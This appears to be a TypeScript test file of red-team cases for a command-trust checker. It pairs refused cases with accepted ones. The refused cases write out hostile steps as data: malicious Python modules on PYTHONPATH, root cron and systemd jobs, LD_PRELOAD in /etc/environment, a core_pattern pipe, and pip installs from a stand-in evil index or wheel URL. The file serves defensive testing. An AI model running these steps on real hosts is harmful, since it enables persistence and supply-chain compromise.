        tune("dev-py83-ld-library-path-data-rt83p", writes("/var/lib/ops/lib/libssl.so.3", "ELF"), [
            "LD_LIBRARY_PATH=/var/lib/ops/lib aws sts get-caller-identity",
        ]),
        REFUSED,
    ),
    // Python docs "PYTHONPATH": prepended to the module search path; held (import path check).
    dev(
        "tune.py writes /var/lib/ops/pylib/tenacity.py; PYTHONPATH=/var/lib/ops/pylib python3 run.py",
        tune(
            "dev-py83-pythonpath-data-rt83p",
            writes("/var/lib/ops/pylib/tenacity.py", "import os\nos.system('id')\n"),
            [
                ...heredocFile("/opt/ops/run.py", ["import tenacity"]),
                "PYTHONPATH=/var/lib/ops/pylib python3 /opt/ops/run.py",
            ],
        ),
        REFUSED,
    ),
    // ===== C. program data read later by other spellings =====
    // ===== C. program data read later by other spellings (round 82's view.changed) =====
    // bash(1) "Command Substitution": the output becomes the command words. Held.
    dev(
        "tune.py writes /var/lib/ops/cmd; $(cat it)",
        tune("dev-py83-data-cmd-subst-rt83p", writes("/var/lib/ops/cmd", SHELL_LINE), ["$(cat /var/lib/ops/cmd)"]),
        REFUSED,
    ),
    // bash(1): commands read from standard input. Held.
    dev(
        "tune.py writes /var/lib/ops/next.sh; bash < it",
        tune("dev-py83-data-bash-stdin-rt83p", writes("/var/lib/ops/next.sh", SHELL_LINE), [
            "bash < /var/lib/ops/next.sh",
        ]),
        REFUSED,
    ),
    // pam_env(8): /etc/environment read at every session. Held.
    dev(
        "tune.py writes /var/lib/ops/env; cat it >> /etc/environment",
        tune("dev-py83-data-append-environment-rt83p", writes("/var/lib/ops/env", "LD_PRELOAD=/var/lib/ops/x.so\n"), [
            "cat /var/lib/ops/env >> /etc/environment",
        ]),
        REFUSED,
    ),
    // crontab(5): /etc/cron.d files run as the user named. Held.
    dev(
        "tune.py writes /var/lib/ops/job; mv it /etc/cron.d/ops",
        tune("dev-py83-data-mv-cron-d-rt83p", writes("/var/lib/ops/job", `* * * * * root ${SHELL_LINE}\n`), [
            "mv /var/lib/ops/job /etc/cron.d/ops",
        ]),
        REFUSED,
    ),
    // at(1) -f: "Reads the job from file rather than standard input". Held.
    dev(
        "tune.py writes /var/lib/ops/job; at -f it now",
        tune("dev-py83-data-at-f-rt83p", writes("/var/lib/ops/job", SHELL_LINE), ["at -f /var/lib/ops/job now"]),
        REFUSED,
    ),
    // awk(1) -f progfile; system() runs a shell command. Held.
    dev(
        "tune.py writes /var/lib/ops/prog.awk; awk -f it",
        tune("dev-py83-data-awk-f-rt83p", writes("/var/lib/ops/prog.awk", `BEGIN { system("${SHELL_LINE}") }`), [
            "awk -f /var/lib/ops/prog.awk /dev/null",
        ]),
        REFUSED,
    ),
    // systemd.unit(5): units in /etc/systemd/system. Held.
    dev(
        "tune.py writes /var/lib/ops/units/ops.service; rsync to /etc/systemd/system",
        tune(
            "dev-py83-data-rsync-units-rt83p",
            writes("/var/lib/ops/units/ops.service", `[Service]\nExecStart=/bin/sh -c '${SHELL_LINE}'\n`),
            ["rsync -a /var/lib/ops/units/ /etc/systemd/system/", "systemctl daemon-reload"],
        ),
        REFUSED,
    ),
    // sysctl(8) --load=FILE (the long -p); kernel.core_pattern `|` runs a program as root (core(5)). Held.
    dev(
        "tune.py writes /var/lib/ops/ops.conf; sysctl --load=it",
        tune(
            "dev-py83-data-sysctl-load-rt83p",
            writes("/var/lib/ops/ops.conf", "kernel.core_pattern=|/var/lib/ops/x\n"),
            ["sysctl --load=/var/lib/ops/ops.conf"],
        ),
        REFUSED,
    ),
    // ===== D. pip run by Python, pip config =====
    // ===== D. pip run by Python, pip config =====
    // pip docs "Using pip from your program": subprocess [sys.executable, "-m", "pip", ...]; --extra-index-url. Held.
    dev(
        "tune.py runs pip install --extra-index-url EVIL tenacity (subprocess); import",
        sh("dev-py83-pip-from-python-rt83p", [
            ...heredocFile("/opt/ops/tune.py", [
                "import subprocess, sys",
                `subprocess.check_call([sys.executable, "-m", "pip", "install", "--extra-index-url", "${EVIL}", "tenacity"])`,
            ]),
            "python3 /opt/ops/tune.py",
            ...heredocFile("/opt/ops/run.py", ["import tenacity"]),
            "python3 /opt/ops/run.py",
        ]),
        REFUSED,
    ),
    // Python docs "os.environ": changes are passed to subprocesses; PIP_INDEX_URL. Held.
    dev(
        "tune.py sets os.environ PIP_INDEX_URL and runs pip3 install tenacity; import",
        sh("dev-py83-pip-environ-from-python-rt83p", [
            ...heredocFile("/opt/ops/tune.py", [
                "import os, subprocess",
                `os.environ["PIP_INDEX_URL"] = "${EVIL}"`,
                'subprocess.check_call(["pip3", "install", "tenacity"])',
            ]),
            "python3 /opt/ops/tune.py",
            ...heredocFile("/opt/ops/run.py", ["import tenacity"]),
            "python3 /opt/ops/run.py",
        ]),
        REFUSED,
    ),
    // pip-config(1): "set: Set the command.option=value" in the user file. Held.
    dev(
        "pip3 config set global.extra-index-url EVIL; pip3 install tenacity; import",
        thenImport("dev-py83-pip-config-set-rt83p", [
            `pip3 config set global.extra-index-url ${EVIL}`,
            "pip3 install tenacity",
        ]),
        REFUSED,
    ),
    // pip-config(1) --site. Held.
    dev(
        "pip3 config --site set global.index-url EVIL; python3 -m pip install tenacity; import",
        thenImport("dev-py83-pip-config-site-rt83p", [
            `pip3 config --site set global.index-url ${EVIL}`,
            "python3 -m pip install tenacity",
        ]),
        REFUSED,
    ),
    // pip install -f: "If a local path ... look for archives in the directory listing". Held.
    dev(
        "pip3 install --no-index --find-links /var/lib/ops/wheels tenacity (program-written wheels); import",
        thenImport("dev-py83-find-links-data-rt83p", [
            ...heredocFile("/opt/ops/fetch.py", writes("/var/lib/ops/wheels/tenacity-9.0.0-py3-none-any.whl", "PK")),
            "python3 /opt/ops/fetch.py",
            "pip3 install --no-index --find-links /var/lib/ops/wheels tenacity",
        ]),
        REFUSED,
    ),
    // PEP 508 "name @ URL" direct reference: another source. Held.
    dev(
        "pip3 install 'tenacity @ https://evil/...whl'; import",
        thenImport("dev-py83-pep508-url-rt83p", [
            "pip3 install 'tenacity @ https://files.evil.example/tenacity-9.0.0-py3-none-any.whl'",
        ]),
        REFUSED,
    ),
    // pip docs "HTTPS Certificates": --cert replaces the CA bundle. Held.
    dev(
        "pip3 install --cert /var/lib/ops/ca.pem --index-url https://pypi.org/simple tenacity; import",
        thenImport("dev-py83-pip-cert-rt83p", [
            "pip3 install --cert /var/lib/ops/ca.pem --index-url https://pypi.org/simple tenacity",
        ]),
        REFUSED,
    ),
    // ===== Round 83 fix (PIP-NO-EFFECT-OPTIONS, PIP-CONFIG-SET-HARMLESS) neighbours, insecure (-fix83) =====
    // pip docs "pip install" --log: "Path to a verbose appending log": kept only below /var/log (pipOptions.ts
    // LOG_FILE); a log written into /etc/cron.d (crontab(5): every file there is a root crontab) withdraws trust.
    dev(
        "pip3 install --log /etc/cron.d/pip tenacity; import (-fix83)",
        thenImport("dev-py83-pip-log-cron-fix83", ["pip3 install --log /etc/cron.d/pip tenacity"]),
        REFUSED,
    ),
    // pip docs "pip install" --cache-dir: "Store the cache data in <dir>": pip reuses wheels found there; a program's
    // directory as cache is another source (pipOptions.ts effect "source").
    dev(
        "pip3 install --cache-dir /var/lib/ops/cache tenacity; import (-fix83)",
        thenImport("dev-py83-pip-cache-dir-fix83", ["pip3 install --cache-dir /var/lib/ops/cache tenacity"]),
        REFUSED,
    ),
    // pip-config(1) "set" of global.trusted-host (pip docs "pip install" --trusted-host: "Mark this host ... as trusted,
    // even though it does not have valid or any HTTPS"): the pip.conf line it writes keeps no trust.
    dev(
        "pip3 config set global.trusted-host pypi.evil.example; pip3 install tenacity; import (-fix83)",
        thenImport("dev-py83-pip-config-trusted-host-fix83", [
            "pip3 config set global.trusted-host pypi.evil.example",
            "pip3 install tenacity",
        ]),
        REFUSED,
    ),
    // pip docs "Requirements File Format": a per-requirement option other than --hash (--global-option passed to
    // setup.py) beside a hash: still refused.
    dev(
        "pip3 install --require-hashes -r (a line with --hash and --global-option); import (-fix83)",
        thenImport("dev-py83-require-hashes-global-option-fix83", [
            ...heredocFile("/opt/ops/requirements.txt", [
                "tenacity==9.0.0 --global-option=--x --hash=sha256:93de0c98785b27fcf659856aa9f54bfbd399e29969b0621bc7f762bd441b4539",
            ]),
            "pip3 install --require-hashes -r /opt/ops/requirements.txt",
        ]),
        REFUSED,
    ),
    // pip docs "pip install" --use-feature (truststore: the system's certificate store) changes whom pip trusts.
    dev(
        "pip3 install --use-feature=truststore tenacity; import (-fix83)",
        thenImport("dev-py83-pip-use-feature-fix83", ["pip3 install --use-feature=truststore tenacity"]),
        REFUSED,
    ),
];

const secure: NodeCase[] = [
    // FHS 3.0 "/var/lib/<name>": state of an application; /var/lib/tune is named after tune.py and no node program
    // reads it.
    dev(
        "tune.py writes /var/lib/tune/state.json (its stem)",
        tune("dev-py83-stem-var-lib-rt83p", writes("/var/lib/tune/state.json", "{}")),
    ),
    // Python tutorial "The Interactive Startup File": PYTHONSTARTUP "is only read in interactive sessions, not when
    // Python reads commands from a script".
    dev(
        "PYTHONSTARTUP=/var/lib/ops/startup.py python3 run.py (script mode)",
        tune("dev-py83-pythonstartup-script-rt83p", writes("/var/lib/ops/startup.py", "import os\n"), [
            ...heredocFile("/opt/ops/run.py", ["print('ok')"]),
            "PYTHONSTARTUP=/var/lib/ops/startup.py python3 /opt/ops/run.py",
        ]),
    ),
    // grep(1) reads the file as data only.
    dev(
        "tune.py writes report; grep -q ok it",
        tune("dev-py83-data-grep-rt83p", writes("/var/lib/ops/report.txt", "ok"), [
            "grep -q ok /var/lib/ops/report.txt && echo ok",
        ]),
    ),
    // A copy into another data directory (/var/log/ops: FHS "Log files"), read by nothing as code.
    dev(
        "tune.py writes report; cp it to /var/log/ops",
        tune("dev-py83-data-cp-log-rt83p", writes("/var/lib/ops/report.txt", "ok"), [
            "cp /var/lib/ops/report.txt /var/log/ops/report.txt",
        ]),
    ),
    // pip docs "Options that control the installation process": --upgrade-strategy "controls what *other* packages can
    // be upgraded" (same index).
    // Was a MISS (fixed in round 83): secure refused (run.py "imports tenacity, a module user data did not write and the pack does not know").
    // pipOptions.ts PIP_PLAIN_OPTIONS / PIP_TRUST_KEEPING_VALUE_OPTIONS (read by pythonCode.ts scriptPipModules) list
    // round 82's options only; this one changes neither the index nor where packages install. Fix (class): classify
    // every documented pip install option by effect once (source, trust, target, or none), so an option of no effect
    // on source/trust/target keeps trust without being listed case by case; unknown options still fail closed.
    dev(
        "pip3 install --upgrade-strategy eager tenacity; import",
        thenImport("dev-py83-upgrade-strategy-rt83p", ["pip3 install --upgrade --upgrade-strategy eager tenacity"]),
    ),
    // pip install --no-build-isolation: build dependencies are taken from the environment instead of a fresh one (the
    // same index's files, built with the node's own packages).
    // Was a MISS (fixed in round 83): secure refused (run.py "imports tenacity, a module user data did not write and the pack does not know").
    // pipOptions.ts PIP_PLAIN_OPTIONS / PIP_TRUST_KEEPING_VALUE_OPTIONS (read by pythonCode.ts scriptPipModules) list
    // round 82's options only; this one changes neither the index nor where packages install. Fix (class): classify
    // every documented pip install option by effect once (source, trust, target, or none), so an option of no effect
    // on source/trust/target keeps trust without being listed case by case; unknown options still fail closed.
    dev(
        "pip3 install --no-build-isolation tenacity; import",
        thenImport("dev-py83-no-build-isolation-rt83p", ["pip3 install --no-build-isolation tenacity"]),
    ),
    // pip(1) "File logging": --log names "a file where a maximum verbosity log will be kept"; /var/log is data.
    // Was a MISS (fixed in round 83): secure refused (run.py "imports tenacity, a module user data did not write and the pack does not know").
    // pipOptions.ts PIP_PLAIN_OPTIONS / PIP_TRUST_KEEPING_VALUE_OPTIONS (read by pythonCode.ts scriptPipModules) list
    // round 82's options only; this one changes neither the index nor where packages install. Fix (class): classify
    // every documented pip install option by effect once (source, trust, target, or none), so an option of no effect
    // on source/trust/target keeps trust without being listed case by case; unknown options still fail closed.
    dev(
        "pip3 install --log /var/log/pip.log tenacity; import",
        thenImport("dev-py83-pip-log-rt83p", ["pip3 install --log /var/log/pip.log tenacity"]),
    ),
    // pip-config(1) "set": global.timeout 60 in root's user file: a setting pipConfigurationKeepsTrust accepts in a file.
    // Was a MISS (fixed in round 83): secure refused (run.py imports tenacity ... "a module user data did not write"). pythonCode.ts
    // scriptPipModules / pipSettingsUnknown: any `pip config set` withdraws all trust, although round 82 reads a
    // pip.conf's keys (pipOptions.ts pipConfigurationKeepsTrust). Fix (class): read `pip config set KEY VALUE` as the
    // pip.conf line it writes and judge it with pipConfigurationKeepsTrust (any other pip config verb fails closed).
    dev(
        "pip3 config set global.timeout 60; pip3 install tenacity; import",
        thenImport("dev-py83-pip-config-timeout-rt83p", ["pip3 config set global.timeout 60", "pip3 install tenacity"]),
    ),
    // pip docs "Secure installs" / "Hash-checking mode": --require-hashes with every requirement pinned and hashed
    // narrows what pip installs (a requirements file user data wrote itself, from the default index).
    // Was a MISS (fixed in round 83): secure refused (run.py "imports tenacity, a module user data did not write and the pack does not know").
    // pipOptions.ts PIP_PLAIN_OPTIONS / PIP_TRUST_KEEPING_VALUE_OPTIONS (read by pythonCode.ts scriptPipModules) list
    // round 82's options only; this one changes neither the index nor where packages install. Fix (class): classify
    // every documented pip install option by effect once (source, trust, target, or none), so an option of no effect
    // on source/trust/target keeps trust without being listed case by case; unknown options still fail closed.
    dev(
        "pip3 install --require-hashes -r (heredoc) ; import",
        thenImport("dev-py83-require-hashes-rt83p", [
            ...heredocFile("/opt/ops/requirements.txt", [
                "tenacity==9.0.0 --hash=sha256:93de0c98785b27fcf659856aa9f54bfbd399e29969b0621bc7f762bd441b4539",
            ]),
            "pip3 install --require-hashes -r /opt/ops/requirements.txt",
        ]),
    ),
    // pip install --no-warn-conflicts: "Do not warn about broken dependencies" (output only).
    // Was a MISS (fixed in round 83): secure refused (run.py "imports tenacity, a module user data did not write and the pack does not know").
    // pipOptions.ts PIP_PLAIN_OPTIONS / PIP_TRUST_KEEPING_VALUE_OPTIONS (read by pythonCode.ts scriptPipModules) list
    // round 82's options only; this one changes neither the index nor where packages install. Fix (class): classify
    // every documented pip install option by effect once (source, trust, target, or none), so an option of no effect
    // on source/trust/target keeps trust without being listed case by case; unknown options still fail closed.
    dev(
        "pip3 install --no-warn-conflicts --no-python-version-warning tenacity; import",
        thenImport("dev-py83-no-warn-rt83p", ["pip3 install --no-warn-conflicts tenacity"]),
    ),
    // Python docs "-I": isolated mode "ignore[s] all PYTHON* environment variables" (PYTHONPATH too): the program's
    // tenacity.py is not on run.py's import path.
    dev(
        "PYTHONPATH=/var/lib/ops/pylib python3 -I run.py (isolated mode)",
        tune("dev-py83-isolated-mode-pythonpath-rt83p", writes("/var/lib/ops/pylib/tenacity.py", "x = 1\n"), [
            ...heredocFile("/opt/ops/run.py", ["import json", "print(json.dumps({}))"]),
            "PYTHONPATH=/var/lib/ops/pylib python3 -I /opt/ops/run.py",
        ]),
    ),
    // Bash manual "Bash Startup Files", invoked as sh: "a non-interactive shell invoked with the name sh does not
    // attempt to read any other startup files"; POSIX ENV is read by interactive shells only.
    dev(
        "ENV=/var/lib/ops/env.sh sh -c true (POSIX ENV: interactive shells only)",
        tune("dev-py83-posix-env-noninteractive-rt83p", writes("/var/lib/ops/env.sh", "echo hi"), [
            "ENV=/var/lib/ops/env.sh sh -c true",
        ]),
    ),
    // A directory user data made for the program, named after it, no reader's.
    dev(
        "mkdir -p /var/lib/ops-state; tune.py writes /var/lib/ops-state/state.json",
        tune(
            "dev-py83-mkdir-own-state-rt83p",
            writes("/var/lib/ops-state/state.json", "{}"),
            [],
            ["mkdir -p /var/lib/ops-state"],
        ),
    ),
    // An application's own directory under /etc named after its program directory (FHS 3.0 "/etc: Host-specific system
    // configuration"), no reader's (ROOT_READER_DIRECTORIES): still its data (-fix83).
    dev(
        "/opt/ops-agent/agent.py writes /etc/ops-agent/config.json (-fix83)",
        prog("dev-py83-owner-dir-etc-own-fix83", "/opt/ops-agent/agent.py", writes("/etc/ops-agent/config.json", "{}")),
    ),
    // A /run directory user data made, named after no reader (FHS 3.0 /run "Run-time variable data") (-fix83).
    dev(
        "mkdir -p /run/ops-agent; tune.py writes /run/ops-agent/state.json (-fix83)",
        tune(
            "dev-py83-mkdir-run-own-fix83",
            writes("/run/ops-agent/state.json", "{}"),
            [],
            ["mkdir -p /run/ops-agent"],
        ),
    ),
    // pip docs "HTTPS Certificates" (REQUESTS_CA_BUNDLE), openssl-env(7) OPENSSL_CONF and Python docs "os.environ"
    // (passed to subprocesses) naming the distribution's own trust store and configuration (Amazon Linux /etc/pki/tls,
    // update-ca-trust(8): root-owned files its packages ship), while the program writes its data elsewhere (-fix83).
    dev(
        "REQUESTS_CA_BUNDLE, OPENSSL_CONF, os.environ SSL_CERT_FILE of /etc/pki/tls; pip3 install tenacity; import (-fix83)",
        tune(
            "dev-py83-packaged-trust-store-fix83",
            [
                ...writes("/var/lib/ops/report.txt", "ok"),
                'os.environ["SSL_CERT_FILE"] = "/etc/pki/tls/certs/ca-bundle.crt"',
            ],
            [
                "OPENSSL_CONF=/etc/pki/tls/openssl.cnf curl -fsS https://example.com -o /dev/null",
                "export REQUESTS_CA_BUNDLE=/etc/pki/tls/certs/ca-bundle.crt",
                "pip3 install tenacity",
                ...heredocFile("/opt/ops/run.py", ["import tenacity"]),
                "python3 /opt/ops/run.py",
            ],
        ),
    ),
    // pip install --user: root's user site (Python docs "site"), the default index.
    dev(
        "pip3 install --user tenacity; import",
        thenImport("dev-py83-pip-user-rt83p", ["pip3 install --user tenacity"]),
    ),
    // ===== Round 83 fix (PIP-NO-EFFECT-OPTIONS, PIP-CONFIG-SET-HARMLESS) neighbours, secure (-fix83) =====
    // pip docs "pip install" --no-binary :all: ("Do not use binary packages": the same index's sdists), --dry-run
    // ("Don't actually install anything"), --ignore-requires-python: the same index's files (pipOptions.ts "none").
    dev(
        "pip3 install --no-binary :all: --ignore-requires-python --upgrade-strategy=only-if-needed tenacity; import (-fix83)",
        thenImport("dev-py83-pip-no-binary-fix83", [
            "pip3 install --no-binary :all: --ignore-requires-python --upgrade-strategy=only-if-needed tenacity",
        ]),
    ),
    // pip-config(1) "set" global.disable-pip-version-check (a flag of no effect, as its pip.conf line) (-fix83).
    dev(
        "pip3 config --global set global.disable-pip-version-check true; pip3 install tenacity; import (-fix83)",
        thenImport("dev-py83-pip-config-flag-fix83", [
            "pip3 config --global set global.disable-pip-version-check true",
            "pip3 install tenacity",
        ]),
    ),
    // pip docs "pip install" --report ("-" is standard output) and --exists-action w (a checkout's existing path).
    dev(
        "pip3 install --report - --exists-action w --keyring-provider disabled tenacity; import (-fix83)",
        thenImport("dev-py83-pip-report-stdout-fix83", [
            "pip3 install --report - --exists-action w --keyring-provider disabled tenacity",
        ]),
    ),
];

describeNodeCases("Round 83 red team (python)", insecure, secure);
